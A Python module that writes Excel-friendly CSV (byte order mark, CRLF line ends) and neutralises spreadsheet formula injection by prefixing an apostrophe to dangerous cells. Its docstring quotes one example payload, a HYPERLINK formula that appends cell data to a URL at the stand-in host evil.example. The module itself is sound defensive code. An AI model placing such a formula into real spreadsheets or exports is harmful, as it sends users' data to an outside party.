"""CSV written for Excel: UTF-8 with a byte order mark (without it Excel reads the file in the
Windows code page and "Zoë" becomes "ZoÃ«"), CRLF line ends, and every text cell that a
spreadsheet would take for a formula made inert.

A cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking) is run as a formula when the file is opened: a name typed as
``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would become a link that posts the sheet away.
Such a cell is written with a leading apostrophe, which spreadsheets read as "this is text".
Numbers are written as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

__all__ = ["BOM", "FORMULA_STARTS", "csv_for_excel", "inert"]

BOM = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

CsvCell = str | int | float | None


def inert(value: str) -> str:
    """``value`` as a spreadsheet will show it, never run it: an apostrophe before a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def csv_for_excel(rows: Iterable[Sequence[CsvCell]]) -> bytes:
    """The rows as the bytes of a .csv file (an empty cell for ``None``)."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if v is None else inert(v) if isinstance(v, str) else v for v in row])
    return buffer.getvalue().encode("utf-8")
